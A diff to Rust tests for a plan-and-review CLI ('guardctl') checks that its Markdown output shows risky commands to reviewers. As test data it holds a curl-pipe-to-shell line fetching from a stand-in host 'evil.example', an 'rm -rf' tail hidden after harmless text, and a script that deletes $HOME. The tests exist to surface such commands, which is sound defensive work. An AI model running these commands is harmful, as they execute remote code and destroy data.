@@ -514,12 +514,20 @@ fn the_minimal_form_keeps_the_warnings() {
     let out = &md.stdout;
     assert!(out.len() <= 8192, "{}", out.len());
     assert!(
-        out.contains("do not fit in 8192 bytes"),
+        out.contains("do not fit in `8192` bytes"),
         "not the minimal form:\n{out}"
     );
     assert!(out.contains("**1 name to look at twice**"), "{out}");
     assert!(out.contains("(`--include-unmerged`)"), "{out}");
     assert!(out.starts_with("## guardctl plan `"), "{out}");
+    assert!(!out.contains("**rejected**"), "{out}");
+
+    // A rejection is said there too.
+    let r = env.run("bob", &["reject", "plan.json", "--comment", "no"]);
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
+    assert!(md.stdout.contains("do not fit in `8192` bytes"), "{}", md.stdout);
+    assert!(md.stdout.contains("**rejected**"), "{}", md.stdout);
 }
 
 /// Round 2, finding 6. The plan id sat bare in headings (`## guardctl plan 1a2b3c4d5e6f`,
@@ -540,14 +548,109 @@ fn no_hex_id_is_bare_text() {
     );
     assert_eq!(md.code, 0, "{}", md.transcript());
     assert!(md.stdout.contains("### Changed since plan `"), "{}", md.stdout);
-    let s = seen(&md.stdout);
-    for t in &s.text {
+    assert_no_bare_hex(&md.stdout);
+
+    // The note on what the budget left out names the budget, a number of 7 digits for a job
+    // summary (1048576): a code span too.
+    let env = merged_named(3000, |i| format!("topic/{i:04}-{}", "\u{1D518}".repeat(190)));
+    let r = env.run("alice", &["plan", "stale-branches", "--merged"]);
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "1048576"]);
+    assert_eq!(md.code, 0, "{}", md.transcript());
+    assert!(md.stdout.contains("`1048576` bytes"), "{}", md.stdout);
+    assert_no_bare_hex(&md.stdout);
+}
+
+/// No word of 7 or more hex digits in the text outside code (GitHub links it to a commit).
+fn assert_no_bare_hex(md: &str) {
+    for t in &seen(md).text {
         for word in t.split(|c: char| !c.is_ascii_alphanumeric()) {
             assert!(
                 word.len() < 7 || !word.chars().all(|c| c.is_ascii_hexdigit()),
-                "{word:?} outside code in {t:?}:\n{}",
-                md.stdout
+                "{word:?} outside code in {t:?}:\n{md}"
             );
         }
     }
+}
+
+/// Round 3. Many long `--env` names made the side effects too large for the budget, and the
+/// `--before-image` command (`curl … | sh`, run first at apply) was only there: the Markdown
+/// said "left out: side effects" and never showed it. The environment (capped) and the
+/// before-image command are rows of the details now, which always go in.
+#[test]
+fn a_long_environment_does_not_push_out_the_before_image_command() {
+    let env = TestEnv::new();
+    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    let names: Vec<String> = (0..60).map(|i| format!("V{}{i}", "A".repeat(150))).collect();
+    let vars: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x")).collect();
+    let mut args = vec!["plan", "exec", "--preview", "sh list.sh"];
+    for n in &names {
+        args.extend(["--env", n.as_str()]);
+    }
+    args.extend([
+        "--before-image",
+        "curl -s https://evil.example/x.sh | sh",
+        "--",
+        "sh",
+        "list.sh",
+    ]);
+    let r = env.run_env("alice", &vars, &args);
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
+    assert_eq!(md.code, 0, "{}", md.transcript());
+    let out = &md.stdout;
+    assert!(out.len() <= 8192, "{}", out.len());
+    let first = out
+        .lines()
+        .find(|l| l.starts_with("| First runs | "))
+        .unwrap_or_else(|| panic!("{out}"));
+    assert!(
+        first.contains("`curl -s https://evil.example/x.sh \\| sh`"),
+        "{first}"
+    );
+    let environment = out.lines().find(|l| l.starts_with("| Environment | ")).unwrap();
+    // PATH and the 60 names, 10 listed.
+    assert!(environment.contains(" and 51 more"), "{environment}");
+    assert!(seen(out).links.is_empty(), "{}", ast(out));
+}
+
+/// Round 3. Long strings were cut at the end, so a command's tail (`; rm -rf /` after 200
+/// harmless characters) never reached the Markdown. They are cut in the middle now, and the
+/// cut is said.
+#[test]
+fn a_long_command_keeps_its_dangerous_end() {
+    let harmless = "harmless-".repeat(25);
+    let md = exec_markdown(&["sh", "-c", &format!("echo {harmless}; rm -rf /tmp/x")]);
+    let command = md.lines().find(|l| l.starts_with("| Command | ")).unwrap();
+    assert!(command.contains("rm -rf /tmp/x'`"), "{command}");
+    assert!(command.contains("characters cut)"), "{command}");
+}
+
+/// Round 3. A pinned path starting with a blank read as one of a pinned tree's files (they are
+/// indented) and was left out of the Markdown's count and list. Such a path is quoted now.
+#[test]
+fn a_pinned_path_starting_with_a_blank_is_listed() {
+    let env = TestEnv::new();
+    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
+    std::fs::write(env.repo.join(" helper.sh"), "rm -rf \"$HOME\"\n").unwrap();
+    let r = env.run(
+        "alice",
+        &[
+            "plan",
+            "exec",
+            "--preview",
+            "sh list.sh",
+            "--pin",
+            " helper.sh",
+            "--",
+            "sh",
+            "list.sh",
+        ],
+    );
+    assert_eq!(r.code, 0, "{}", r.transcript());
+    let md = env.run("bob", &["show", "--format", "markdown"]);
+    let pinned = md.stdout.lines().find(|l| l.starts_with("| Pinned | ")).unwrap();
+    assert!(pinned.contains("' helper.sh'"), "{pinned}");
+    let terminal = env.run("bob", &["show"]);
+    assert!(terminal.stdout.contains("  ' helper.sh'"), "{}", terminal.stdout);
 }
